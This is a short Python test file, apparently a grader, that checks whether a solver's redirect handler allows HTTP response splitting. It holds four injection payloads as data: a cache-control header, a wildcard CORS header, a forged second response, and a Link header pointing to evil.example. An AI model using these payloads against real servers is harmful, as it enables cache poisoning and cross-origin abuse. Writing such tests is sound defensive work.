def split(solver, address, sign):
    """Reads the response as a lenient browser does, for which \\n and \\r alone end a line too."""
    response = solver.attempt("redirect_response", address).value
    if not isinstance(response, str):
        return None
    lines = response.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    if any(line.startswith(sign) for line in lines):
        return f"the location {address!r} made the line {sign!r} of its own"


def exploit_cache(solver, workspace):
    return split(solver, "/\r\n\r\nX-Accel-Expires: 99999\r\nX: y", "X-Accel-Expires:")


def exploit_second_line_feed(solver, workspace):
    return split(solver, "/x\n1\n2\nAccess-Control-Allow-Origin: *", "Access-Control-Allow-Origin:")


def exploit_second_response(solver, workspace):
    return split(solver, "/\n\nHTTP/1.1 200 OK\n\n<p>forged</p>", "HTTP/1.1 200 OK")


def exploit_lone_carriage_returns(solver, workspace):
    return split(solver, "/x\r\rLink: <https://evil.example>", "Link:")
